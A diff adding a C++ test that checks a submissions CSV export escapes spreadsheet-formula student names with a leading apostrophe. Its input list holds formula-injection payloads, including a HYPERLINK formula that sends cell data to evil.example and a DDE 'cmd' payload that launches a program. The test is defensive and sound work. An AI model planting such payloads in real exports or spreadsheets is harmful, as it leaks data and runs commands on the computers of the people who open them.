@@ -5,6 +5,7 @@
 // scoped to the key. On SQLite and PostgreSQL.
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
@@ -289,6 +290,44 @@ TEST_P(RecordRoutes, IdempotencyKeysAreScopedToTheKeyAndLmsKeysAreCapped) {
   ASSERT_FALSE(again[http::field::retry_after].empty());
   EXPECT_LE(std::stoi(std::string(again[http::field::retry_after])),
             std::stoi(std::string(last[http::field::retry_after])));
+}
+
+TEST_P(RecordRoutes, CsvWritesFormulaStudentsWithALeadingApostrophe) {
+  const std::uint16_t port = start();
+  ASSERT_NE(port, 0);
+  const std::vector<std::string> names = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+                                          "+cmd|' /C calc'!A0",
+                                          "-2+3",
+                                          "@SUM(1+1)",
+                                          "\t=1+1",
+                                          "\r=1+1",
+                                          "ada"};
+  for (const std::string& name : names) {
+    Json body = Json::parse(kWrongKey);
+    body["student"] = name;
+    ASSERT_EQ(grade(port, body.dump()).result(), http::status::ok) << name;
+  }
+  const HttpResponse csv = call(port, "GET", "/v1/submissions.csv", staff_);
+  ASSERT_EQ(csv.result(), http::status::ok);
+  const auto rows = testing_csv::parse_csv(csv.body());
+  ASSERT_EQ(rows.size(), names.size() + 1);
+  std::vector<std::string> students;
+  for (std::size_t i = 1; i < rows.size(); ++i) students.push_back(rows[i][3]);
+  for (const std::string& name : names) {
+    const std::string written = name == "ada" ? name : "'" + name;
+    EXPECT_NE(std::find(students.begin(), students.end(), written), students.end())
+        << "the student " << Json(name).dump() << " is not written as " << Json(written).dump()
+        << " in:\n"
+        << csv.body();
+  }
+  // No cell of any row starts a formula.
+  for (const auto& row : rows) {
+    for (const std::string& cell : row) {
+      EXPECT_TRUE(cell.empty() ||
+                  std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
+          << Json(cell).dump();
+    }
+  }
 }
 
 INSTANTIATE_TEST_SUITE_P(Backends, RecordRoutes,
